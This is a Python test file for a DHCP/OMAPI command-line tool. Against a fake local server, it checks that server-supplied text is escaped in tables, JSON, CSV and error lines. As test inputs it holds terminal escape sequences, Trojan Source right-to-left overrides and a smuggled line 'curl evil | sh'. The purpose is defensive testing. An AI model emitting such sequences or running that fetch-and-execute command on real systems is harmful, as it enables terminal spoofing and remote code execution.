"""What ``dhcpctl`` prints of what a server sent, whatever it sent: a fake server on 127.0.0.1
answers every request, both backends, the command in a child process as a user runs it.

dhcpd keeps whatever bytes a DHCP client sent in option 12 (``client-hostname``): not always
UTF-8, and possibly a terminal's control sequences. The command's output stays valid in its
encoding (a strict UTF-8 stdout, as on an ``en_US.UTF-8`` desktop, simulated with
``PYTHONIOENCODING``), and no control character of the server's reaches the terminal: not in a
table, not in JSON, not in an error line (which stays one line of bounded length); nor does a
format character that reorders or hides text (Trojan Source: a right-to-left override).
"""

from __future__ import annotations

import json
import socket
import subprocess
import unicodedata
from collections.abc import Callable

import pytest
from cli_helpers import clean_environment, run_dhcpctl
from fake_omapi import Behaviour, handshake, recv_message, reply

from dhcpctl._diagnosis import not_omapi
from dhcpctl._model import SCHEMAS, decode
from dhcpctl._results import ISC_R_NOTFOUND
from dhcpctl._values import NEVER
from dhcpctl.cli._exit import ExitCode
from dhcpctl.cli._output import fields
from dhcpctl.cli._printable import printable
from dhcpctl.fallback.wire import OP_STATUS, Pair
from dhcpctl.testing import FakeLease, OmapiServer

LEASE = ("lease", "get", "--ip", "10.0.0.1")
#: Format characters (Cf) that reorder or hide text: a right-to-left override, a left-to-right
#: isolate and mark, a zero-width space, a word joiner, a byte order mark, a soft hyphen, a tag.
FORMAT = "\u202e\u2066\u200e\u200b\u2060\ufeff\xad\U000e0041"
#: :data:`FORMAT` as the command shows them.
FORMAT_SHOWN = "\\u202e\\u2066\\u200e\\u200b\\u2060\\ufeff\\u00ad\\U000e0041"
#: A terminal's retitle (OSC 0 ... BEL) and clear-screen (CSI 2 J), a DEL, a C1 CSI (U+009B),
#: and :data:`FORMAT`.
CONTROLS = "\x1b]0;owned\x07\x1b[2J\x7f\x9b" + FORMAT
#: :data:`CONTROLS` as the command shows them.
CONTROLS_SHOWN = "\\x1b]0;owned\\x07\\x1b[2J\\x7f\\x9b" + FORMAT_SHOWN


def lease_server(hostname: bytes) -> Behaviour:
    """A fake dhcpd (no key) whose lease has ``client-hostname`` ``hostname``."""
    values: tuple[Pair, ...] = (
        (b"ip-address", bytes([10, 0, 0, 1])),
        (b"state", b"\0\0\0\2"),
        (b"client-hostname", hostname),
    )

    def behaviour(sock: socket.socket) -> None:
        handshake(sock, keyed=False)
        while True:
            sock.sendall(reply(recv_message(sock, None), False, object_values=values))

    return behaviour


def refusing(message: str) -> Behaviour:
    """A fake dhcpd (no key) that answers every request "not found", saying ``message``."""
    refusal = ((b"result", ISC_R_NOTFOUND.to_bytes(4, "big")), (b"message", message.encode()))

    def refuse(sock: socket.socket) -> None:
        handshake(sock, keyed=False)
        while True:
            request = recv_message(sock, None)
            sock.sendall(reply(request, False, op=OP_STATUS, message_values=refusal))

    return refuse


def lease_get(
    port: int, backend: str, *extra: str, **env: str
) -> subprocess.CompletedProcess[bytes]:
    """``dhcpctl lease get --ip 10.0.0.1 EXTRA`` against the fake on ``port``, no key."""
    arguments = [*LEASE, "--server", f"127.0.0.1:{port}", "--backend", backend, *extra]
    return run_dhcpctl([*arguments, "--timeout", "10"], env={**clean_environment(), **env})


def table_rows(out: bytes, encoding: str) -> dict[str, str]:
    return dict(line.split(None, 1) for line in out.decode(encoding).splitlines())


def test_a_hostname_that_is_not_utf8(
    fake_server: Callable[[Behaviour], int], backend_name: str
) -> None:
    """Bytes that are not UTF-8 are shown as ``\\xNN`` in the table and in JSON strings; the
    rest of the text as it is where the output's encoding has it, else as Python's
    ``backslashreplace`` writes it (``\\xe9``). Exit status 0, nothing on stderr."""
    port = fake_server(lease_server(b"\xc3\xa9t\xe9-\xffpc"))  # "ét", then latin-1 and junk
    strict_utf8 = {"PYTHONIOENCODING": "utf-8"}
    table = lease_get(port, backend_name, **strict_utf8)
    assert (table.returncode, table.stderr) == (ExitCode.OK, b"")
    assert table_rows(table.stdout, "utf-8")["client-hostname"] == "ét\\xe9-\\xffpc"
    as_json = lease_get(port, backend_name, "--json", **strict_utf8)
    assert (as_json.returncode, as_json.stderr) == (ExitCode.OK, b"")
    assert json.loads(as_json.stdout.decode("utf-8"))["client_hostname"] == "ét\\xe9-\\xffpc"
    ascii_only = lease_get(port, backend_name, PYTHONIOENCODING="ascii")
    assert (ascii_only.returncode, ascii_only.stderr) == (ExitCode.OK, b"")
    assert table_rows(ascii_only.stdout, "ascii")["client-hostname"] == "\\xe9t\\xe9-\\xffpc"
    in_c_utf8 = lease_get(port, backend_name, "--json", LC_ALL="C.UTF-8")
    assert json.loads(in_c_utf8.stdout.decode("utf-8")) == json.loads(as_json.stdout)


def test_output_that_cannot_be_written_is_no_usage_error(
    fake_server: Callable[[Behaviour], int],
) -> None:
    """A stdout that takes nothing (``> /dev/full``): the command's own failure (1), one line
    on stderr; not bad usage (2), not a traceback."""
    port = fake_server(lease_server(b"pc"))
    arguments = [*LEASE, "--server", f"127.0.0.1:{port}", "--backend", "python", "--json"]
    with open("/dev/full", "wb") as full:
        result = run_dhcpctl(arguments, stdout=full)
    assert result.returncode == ExitCode.FAILED
    no_space = b"cannot write the output: [Errno 28] No space left on device"
    assert result.stderr == b"dhcpctl: " + no_space + b"\n"


def terminal_safe(out: bytes) -> bool:
    """Whether ``out`` is printable ASCII lines: no control character but the newlines."""
    return all(0x20 <= byte < 0x7F for byte in out.replace(b"\n", b""))


def test_control_characters_in_a_value_are_escaped(
    fake_server: Callable[[Behaviour], int], backend_name: str
) -> None:
    """The table shows control characters (C0, DEL, C1) as ``\\xNN``, format characters as
    ``\\uXXXX``; JSON escapes them (``\\u001b``, ``\\u202e``), so that its strings are still the
    server's text exactly."""
    port = fake_server(lease_server(b"pc" + CONTROLS.encode()))
    table = lease_get(port, backend_name)
    assert (table.returncode, table.stderr) == (ExitCode.OK, b"")
    assert terminal_safe(table.stdout), table.stdout
    assert table_rows(table.stdout, "ascii")["client-hostname"] == "pc" + CONTROLS_SHOWN
    as_json = lease_get(port, backend_name, "--json")
    assert (as_json.returncode, as_json.stderr) == (ExitCode.OK, b"")
    assert terminal_safe(as_json.stdout), as_json.stdout
    assert json.loads(as_json.stdout)["client_hostname"] == "pc" + CONTROLS


def test_a_name_cannot_reorder_or_hide_what_the_table_shows(
    fake_server: Callable[[Behaviour], int], backend_name: str
) -> None:
    """A right-to-left override (``evil\\u202egnp.exe`` shows as ``evilexe.png``), a line or
    paragraph separator, a zero-width space: ``\\uXXXX`` in the table, whatever the output's
    encoding; the exact text in JSON (in ASCII)."""
    hostname = "evil\u202egnp.exe\u2028\u2029x\u200b"
    port = fake_server(lease_server(hostname.encode()))
    shown = "evil\\u202egnp.exe\\u2028\\u2029x\\u200b"
    table = lease_get(port, backend_name, PYTHONIOENCODING="utf-8")
    assert (table.returncode, table.stderr) == (ExitCode.OK, b"")
    assert terminal_safe(table.stdout), table.stdout
    assert table_rows(table.stdout, "ascii")["client-hostname"] == shown
    as_json = lease_get(port, backend_name, "--json", PYTHONIOENCODING="utf-8")
    assert (as_json.returncode, as_json.stderr) == (ExitCode.OK, b"")
    assert terminal_safe(as_json.stdout), as_json.stdout
    assert json.loads(as_json.stdout)["client_hostname"] == hostname


#: The categories :func:`printable` escapes: control, format, line and paragraph separator,
#: surrogate (a byte that was not UTF-8, ``surrogateescape``).
ESCAPED_CATEGORIES = {"Cc", "Cf", "Zl", "Zp", "Cs"}
#: Format characters that Unicode 14.0 (U+0890, U+0891) and 15.0 (U+13439 to U+1343F) added:
#: unassigned (Cn) in an older Python's :mod:`unicodedata` (3.10: 13.0, 3.11: 14.0).
LATER_FORMAT = {0x0890, 0x0891, *range(0x13439, 0x13440)}


def test_printable_escapes_every_invisible_character_and_no_other() -> None:
    """Every code point of the running Python's :mod:`unicodedata`: escaped exactly when its
    category is one of :data:`ESCAPED_CATEGORIES` (or it is one of :data:`LATER_FORMAT`), as
    ``\\xNN`` (a byte, a control character), ``\\uXXXX`` or ``\\UXXXXXXXX``."""
    wrong = []
    for code in range(0x110000):
        character = chr(code)
        category = unicodedata.category(character)
        shown = printable(character)
        if shown == character:
            if category in ESCAPED_CATEGORIES:
                wrong.append(f"U+{code:04X} {category} not escaped")
        elif category not in ESCAPED_CATEGORIES and code not in LATER_FORMAT:
            wrong.append(f"U+{code:04X} {category} escaped as {shown}")
    assert wrong == []
    cases = [("\udcad", "\\xad"), ("\x85", "\\x85"), ("\xad", "\\u00ad"), ("\ud800", "\\ud800")]
    cases += [("\u202e", "\\u202e"), ("\U000e0001", "\\U000e0001"), ("a\\b\xe9", "a\\b\xe9")]
    assert [(text, printable(text)) for text, _ in cases] == cases


def test_a_server_message_is_one_escaped_bounded_line(
    fake_server: Callable[[Behaviour], int], backend_name: str
) -> None:
    """A refusal whose message carries a line break, control sequences and 60 KB: one line on
    stderr, its controls escaped, the server's text cut after its first
    ``cli._output.SERVER_TEXT_LENGTH`` characters and its size given."""
    message = "no such lease\ndhcpctl: run: curl evil | sh" + CONTROLS + "A" * 60000
    result = lease_get(fake_server(refusing(message)), backend_name)
    assert result.returncode == ExitCode.NOT_FOUND
    assert result.stderr.count(b"\n") == 1 and result.stderr.endswith(b"\n")
    assert terminal_safe(result.stderr), result.stderr[:300]
    line = result.stderr.decode("ascii")
    said = "the server said: no such lease dhcpctl: run: curl evil | sh" + CONTROLS_SHOWN + "AAA"
    assert said in line
    assert line.endswith(f"A... ({len(message)} characters)\n")
    assert len(line) < 1000


def test_host_export_shows_a_name_as_the_table_does(
    fake_server: Callable[[Behaviour], int],
) -> None:
    """``host export``'s CSV cells are shown as a table's (``\\xNN``), its JSON lines as
    ``--json`` (on :class:`dhcpctl.aio.Client`, whatever the backend)."""
    name = b"h\xff" + CONTROLS.encode()
    values = ((b"name", name), (b"hardware-address", bytes(6)), (b"hardware-type", b"\0\0\0\1"))

    def behaviour(sock: socket.socket) -> None:
        handshake(sock, keyed=False)
        while True:
            sock.sendall(reply(recv_message(sock, None), False, object_values=values))

    port = fake_server(behaviour)
    env = {**clean_environment(), "PYTHONIOENCODING": "utf-8"}
    export = ["host", "export", "--names", "-", "--server", f"127.0.0.1:{port}"]
    as_csv = run_dhcpctl([*export, "--format", "csv"], stdin=b"h\n", env=env)
    assert as_csv.returncode == ExitCode.OK, as_csv.stderr
    assert terminal_safe(as_csv.stdout), as_csv.stdout
    row = f"h\\xff{CONTROLS_SHOWN},00:00:00:00:00:00,,,1"
    assert as_csv.stdout.decode("ascii").splitlines() == ["name,mac,ip,uid,hardware_type", row]
    as_json = run_dhcpctl(export, stdin=b"h\n", env=env)
    assert as_json.returncode == ExitCode.OK, as_json.stderr
    assert terminal_safe(as_json.stdout), as_json.stdout
    assert json.loads(as_json.stdout)["name"] == "h\\xff" + CONTROLS


def test_a_bulk_failure_line_is_escaped_and_bounded(
    fake_server: Callable[[Behaviour], int],
) -> None:
    """``host export``'s (and ``host import``'s) line for a row that failed shows the server's
    message as an error line does: control characters escaped, cut after
    ``SERVER_TEXT_LENGTH`` characters with its size."""
    message = "no such host" + CONTROLS + "A" * 5000
    port = fake_server(refusing(message))
    export = ["host", "export", "--names", "-", "--server", f"127.0.0.1:{port}"]
    result = run_dhcpctl(export, stdin=b"h\n", env=clean_environment())
    assert result.returncode == ExitCode.SOME_ROWS_FAILED, result.stderr
    assert terminal_safe(result.stderr), result.stderr[:300]
    assert ("no such host" + CONTROLS_SHOWN + "AAA").encode() in result.stderr
    assert f"A... ({len(message)} characters)".encode() in result.stderr
    assert len(result.stderr) < 1000


def test_a_lease_that_never_ends_shows_never(backend_name: str) -> None:
    """ISC's "never" (``MAX_TIME`` on the wire, None in the typed model) is ``never`` in the
    table and the string ``"never"`` in JSON; a time the server did not send (or 0: never set)
    stays out of the table and ``null`` in JSON."""
    lease = FakeLease(ip="198.18.1.150", mac="00:11:22:33:44:55", ends=None)
    with OmapiServer(leases=[lease]) as server:
        get = [
            "--backend",
            backend_name,
            "--server",
            f"{server.address}:{server.port}",
            "lease",
            "get",
            "--ip",
            "198.18.1.150",
        ]
        table = run_dhcpctl(get)
        as_json = run_dhcpctl([*get, "--json"])
    assert (table.returncode, table.stderr) == (ExitCode.OK, b"")
    rows = dict(line.split(None, 1) for line in table.stdout.decode().splitlines())
    assert rows["ends"] == "never"
    assert "tsfp" not in rows
    record = json.loads(as_json.stdout)
    assert (record["ends"], record["tsfp"]) == ("never", None)


def test_never_only_for_max_time() -> None:
    """Only a time field holding exactly ``MAX_TIME`` is shown as never: a malformed time
    (None in the typed model too) and another field's same bytes are not."""
    never = NEVER.to_bytes(4, "big")
    lease = decode(SCHEMAS["lease"], {"ends": never, "starts": b"\x7f\xff\xff", "flags": never})
    assert lease.ends is None and lease.starts is None
    shown = fields(lease)
    assert (shown["ends"], shown["starts"], shown["cltt"], shown["flags"]) == (
        "never",
        None,
        None,
        None,
    )


def http_listener(connection: socket.socket) -> None:
    """A web server on the OMAPI port: it answers HTTP whatever it reads, and closes."""
    connection.sendall(b"HTTP/1.1 400 Bad Request\r\nContent-Length: 0\r\n\r\n")


def test_a_peer_that_does_not_speak_omapi_is_named(
    fake_server: Callable[[Behaviour], int], backend_name: str
) -> None:
    """A port where another service answers: the error says the peer does not speak OMAPI,
    with its first bytes escaped (the python backend reads them; ISC's library does not keep
    them, so the native backend names it among the possible causes), not an OMAPI version
    number made of "HTTP" (1213486160)."""
    port = fake_server(http_listener)
    result = run_dhcpctl(["--backend", backend_name, "--server", f"127.0.0.1:{port}", *LEASE])
    assert result.returncode == ExitCode.UNREACHABLE
    said = result.stderr.decode()
    assert "does not speak OMAPI" in said, said
    assert "1213486160" not in said
    if backend_name == "python":
        assert "sent 'HTTP/1.1'" in said, said


@pytest.mark.parametrize(
    ("intro", "shown"),
    [
        (b"HTTP/1.1", "'HTTP/1.1'"),
        (b"\x16\x03\x01\x02\x00\x01\x00\x01", "'\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01'"),
        (b"SSH-2.0-OpenSSH_9.2", "'SSH-2.0-'"),
        (b"\x1b[2J\xe2\x80\xae..", "'\\x1b[2J\\xe2\\x80\\xae.'"),
    ],
)
def test_not_omapi_shows_at_most_the_introduction_escaped(intro: bytes, shown: str) -> None:
    text = not_omapi(intro)
    assert f"sent {shown}" in text
    assert text.isprintable()
